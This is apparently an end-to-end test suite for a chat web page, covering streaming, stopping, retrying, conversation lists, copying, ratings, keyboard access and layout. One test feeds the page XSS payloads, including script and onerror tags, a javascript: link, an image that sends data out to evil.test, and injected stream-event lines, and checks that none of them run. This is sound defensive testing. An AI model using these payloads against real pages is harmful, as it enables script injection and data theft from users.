"""The chat page as its user meets it: ask, read, stop, try again, tidy up."""

import pytest
from playwright.async_api import Route

from tests.e2e.conftest import chat_page
from tests.support.browser import PHONE, until

pytestmark = pytest.mark.services


async def test_an_answer_is_shown_while_it_is_written() -> None:
    async with chat_page() as world:
        telling = await world.ask("Say something")
        await telling.say("First **words")
        await world.answer.get_by_text("First words").wait_for()
        assert await world.page.locator(".answer strong").inner_text() == "words"
        assert await world.answer.get_attribute("aria-busy") == "true"

        await telling.end("** and the rest.")
        await world.ended()

        assert await world.answer.locator(".prose").inner_text() == "First words and the rest."
        assert await world.page.locator("#title").inner_text() == "Say something"
        stored = [message["text"] for message in await world.stored()]
        assert stored == ["Say something", "First **words** and the rest."]


@pytest.mark.long
async def test_an_example_is_asked_with_a_click() -> None:
    async with chat_page() as world:
        await world.page.get_by_role("button", name="idempotency key").click()
        telling = await world.model.asked()
        assert telling.prompt == "What is an idempotency key good for?"
        await telling.end("For repeating.")
        await world.ended()


@pytest.mark.long
async def test_stop_keeps_exactly_what_was_seen() -> None:
    async with chat_page() as world:
        telling = await world.ask("Tell me a long story")
        await telling.say("Once upon a time")
        await world.answer.get_by_text("Once upon a time").wait_for()

        async def more_words_first(route: Route) -> None:
            turn = await world.context.request.get(route.request.url.removesuffix("/cancel"))
            while "never seen" not in await turn.text():
                await telling.say(" never seen")
                turn = await world.context.request.get(route.request.url.removesuffix("/cancel"))
            await route.continue_()

        await world.page.route("**/cancel", more_words_first)
        await world.page.keyboard.press("Escape")
        await world.ended("cancelled")
        await telling.until_closed()

        assert await world.answer.locator(".prose").inner_text() == "Once upon a time"
        assert "You stopped this answer." in await world.answer.inner_text()
        assert (await world.stored())[-1]["text"] == "Once upon a time"


@pytest.mark.long
async def test_a_stop_before_the_first_word_holds() -> None:
    async with chat_page() as world:
        telling = await world.ask("Think first")
        await world.page.click("#send")
        await world.ended("cancelled")
        await telling.until_closed()

        assert await world.answer.locator(".prose").inner_text() == ""


@pytest.mark.long
async def test_trying_again_keeps_the_earlier_answer_a_click_away() -> None:
    async with chat_page() as world:
        await (await world.ask("A number?")).end("One.")
        await world.ended()
        await world.answer.get_by_role("button", name="Try again").click()
        telling = await world.model.asked()
        assert telling.prompt == "A number?"
        await telling.end("Two.")
        await world.answer.get_by_text("Two.").wait_for()
        await world.answer.get_by_text("2 / 2").wait_for()

        await world.answer.get_by_role("button", name="Earlier answer").click()
        assert await world.answer.locator(".prose").inner_text() == "One."

        await world.page.reload()
        await world.answer.get_by_text("2 / 2").wait_for()
        assert await world.answer.locator(".prose").inner_text() == "Two."


@pytest.mark.long
async def test_a_failed_answer_says_so_and_can_be_tried_again() -> None:
    async with chat_page() as world:
        telling = await world.ask("Break")
        await telling.say("Half an ans")
        await world.answer.get_by_text("Half an ans").wait_for()
        await telling.break_off()
        # The server may first try to go on by itself; each time the model hangs up again.
        async with world.hanging_up():
            await world.page.locator(".answer .note:visible").wait_for()

        assert "Half an ans" in await world.answer.inner_text()
        await world.answer.locator(".note").get_by_role("button", name="Try again").click()
        await (await world.model.asked()).end("A whole answer.")
        await world.answer.get_by_text("A whole answer.").wait_for()


@pytest.mark.long
async def test_conversations_are_listed_renamed_and_deleted() -> None:
    async with chat_page() as world:
        page = world.page
        await (await world.ask("About apples")).end("Apples.")
        await world.ended()
        await page.get_by_role("link", name="New conversation").click()
        await page.locator(".welcome").wait_for()
        await (await world.ask("About pears")).end("Pears.")
        await world.ended()

        rows = page.locator("#conversations li a")
        assert await rows.all_inner_texts() == ["About pears", "About apples"]
        assert await rows.nth(0).get_attribute("aria-current") == "page"

        await rows.nth(1).hover()
        await page.get_by_role("button", name="Rename “About apples”").click()
        await page.locator("input.rename").fill("Fruit")
        await page.keyboard.press("Enter")
        await page.get_by_role("link", name="Fruit").wait_for()

        await rows.nth(0).hover()
        await page.get_by_role("button", name="Delete “About pears”").click()
        await page.get_by_role("dialog").get_by_role("button", name="Cancel").click()
        assert await rows.count() == 2
        await page.get_by_role("button", name="Delete “About pears”").click()
        await page.get_by_role("dialog").get_by_role("button", name="Delete").click()
        await page.locator(".welcome").wait_for()

        await page.reload()
        await page.get_by_role("link", name="Fruit").wait_for()
        assert await rows.all_inner_texts() == ["Fruit"]


@pytest.mark.long
async def test_back_and_forward_move_between_conversations() -> None:
    async with chat_page() as world:
        page = world.page
        await (await world.ask("First")).end("Answer one.")
        await world.ended()
        await page.get_by_role("link", name="New conversation").click()
        await page.locator(".welcome").wait_for()
        await (await world.ask("Second")).end("Answer two.")
        await world.ended()

        await page.get_by_role("link", name="First").click()
        await page.get_by_text("Answer one.").first.wait_for()
        await page.go_back()
        await page.locator(".prose").get_by_text("Answer two.").wait_for()
        await page.go_forward()
        await page.locator(".prose").get_by_text("Answer one.").wait_for()


@pytest.mark.long
async def test_an_attack_in_an_answer_does_nothing_on_the_real_page() -> None:
    async with chat_page() as world:
        requests: list[str] = []
        world.page.on("request", lambda request: requests.append(request.url))
        telling = await world.ask("Attack")
        await telling.say("<script>window.hit = 1</script><img src=x onerror=window.hit=1>\n\n")
        await telling.say("![s](https://evil.test/?q=SECRET) [x](javascript:window.hit=1)\n\n")
        await telling.end("</script>\r\nevent: turn.failed\ndata: {}\n\n\u2028`ok`")
        await world.ended()

        assert await world.page.evaluate("window.hit ?? null") is None
        assert await world.page.locator(".answer :is(script, img, svg[onload])").count() == 0
        assert [url for url in requests if not url.startswith(world.url)] == []
        text = await world.answer.locator(".prose").inner_text()
        assert "<script>" in text
        assert "event: turn.failed" in text


@pytest.mark.long
async def test_code_and_answers_can_be_copied() -> None:
    permissions = ["clipboard-read", "clipboard-write"]
    async with chat_page({"permissions": permissions}) as world:
        answer = "Run:\n\n```python\nprint('hi')\n```"
        await (await world.ask("Code")).end(answer)
        await world.ended()

        await world.answer.get_by_role("button", name="Copy", exact=True).click()
        await world.answer.get_by_text("Copied").wait_for()
        assert await world.page.evaluate("navigator.clipboard.readText()") == "print('hi')"
        await world.answer.get_by_role("button", name="Copy the answer").click()
        await until(
            world.page,
            "navigator.clipboard.readText().then((text) => text.startsWith('Run:'))",
        )
        assert await world.page.evaluate("navigator.clipboard.readText()") == answer


@pytest.mark.long
async def test_a_rating_is_kept() -> None:
    async with chat_page() as world:
        await (await world.ask("Rate me")).end("Please.")
        await world.ended()
        await world.answer.get_by_role("button", name="Good answer").click()
        pressed = world.page.locator('.answer [aria-pressed="true"]')
        await pressed.wait_for()

        await world.page.reload()
        await pressed.wait_for()
        assert await pressed.get_attribute("aria-label") == "Good answer"


@pytest.mark.long
async def test_everything_needed_works_from_the_keyboard() -> None:
    async with chat_page() as world:
        page = world.page
        await until(page, "document.activeElement.id === 'box'")
        await page.keyboard.type("two")
        await page.keyboard.press("Shift+Enter")
        await page.keyboard.type("lines")
        await page.keyboard.press("Enter")
        telling = await world.model.asked()
        assert telling.prompt == "two\nlines"
        await telling.end("Good.")
        await world.ended()

        await page.evaluate("document.activeElement.blur()")
        await page.keyboard.press("?")
        await page.get_by_role("dialog", name="Keyboard shortcuts").wait_for()
        await page.keyboard.press("Escape")
        await page.keyboard.press("/")
        await until(page, "document.activeElement.id === 'box'")
        await page.keyboard.press("Control+Shift+O")
        await page.locator(".welcome").wait_for()


@pytest.mark.long
async def test_a_phone_has_a_drawer_and_nothing_wider_than_its_screen() -> None:
    async with chat_page({"viewport": PHONE, "has_touch": True, "is_mobile": True}) as world:
        page = world.page
        wide = (
            "| a | b | c | d | e | f | g | h |\n|---|---|---|---|---|---|---|---|\n| 1" + " | 2" * 7
        )
        await (await world.ask("Wide " * 30)).end(f"{wide}\n\n```text\n{'x' * 300}\n```\n")
        await world.ended()

        overflow = "document.documentElement.scrollWidth - document.documentElement.clientWidth"
        assert await page.evaluate(overflow) == 0
        assert await page.locator("#side").is_hidden()
        await page.click("#open-side")
        await page.get_by_role("link", name="New conversation").click()
        await page.locator(".welcome").wait_for()
        await page.locator("#side").wait_for(state="hidden")


@pytest.mark.long
async def test_the_colours_follow_the_system_until_they_are_chosen() -> None:
    background = "getComputedStyle(document.body).backgroundColor"
    async with chat_page({"color_scheme": "dark"}) as world:
        page = world.page
        assert await page.evaluate(background) == "rgb(23, 25, 26)"
        await page.click("#theme")
        assert await page.evaluate(background) == "rgb(255, 255, 255)"

        await page.reload()
        await page.locator(".welcome").wait_for()
        assert await page.evaluate(background) == "rgb(255, 255, 255)"


@pytest.mark.long
async def test_what_is_left_of_a_message_is_shown_near_its_limit() -> None:
    async with chat_page() as world:
        page = world.page
        await page.fill("#box", "x" * 7990)
        assert await page.locator("#counter").inner_text() == "10 left"
        await page.fill("#box", "🙂" * 8001)
        assert await page.locator("#counter").inner_text() == "1 too many"
        assert await page.locator("#send").is_disabled()


@pytest.mark.long
async def test_screen_readers_are_told_of_blocks_not_of_words() -> None:
    async with chat_page() as world:
        telling = await world.ask("Read to me")
        for word in ("One ", "two ", "three."):
            await telling.say(word)
        await world.answer.get_by_text("One two three.").wait_for()
        assert await world.page.locator("#announcer").inner_text() == ""
        await telling.end("\n\nThe next.")
        await world.ended()

        await until(world.page, "document.querySelectorAll('#announcer p').length === 3")
        assert await world.page.locator("#announcer p").all_inner_texts() == [
            "One two three.",
            "The next.",
            "The answer is complete.",
        ]
